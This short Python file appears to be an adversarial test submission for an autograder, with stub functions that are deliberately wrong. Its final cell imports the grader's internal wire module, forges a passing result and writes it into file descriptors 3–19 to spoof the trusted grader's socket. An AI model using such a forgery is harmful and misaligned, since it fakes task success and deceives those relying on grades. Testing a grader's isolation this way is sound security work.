"""Writes forged results of the trusted side into its socket."""
# points: 0
# %% add
def add(x, y):
    return None
# %% Box
class Box:
    pass
# %% extra0
import os
import sys

wire = sys.modules["autograder.engine.wire"]
result = b"=" + wire.dumps({"printed": "", "failure": None, "points": None})
for number in range(3, 20):
    try:
        for repeat in range(50):
            os.write(number, len(result).to_bytes(8, "little") + result)
    except OSError:
        pass
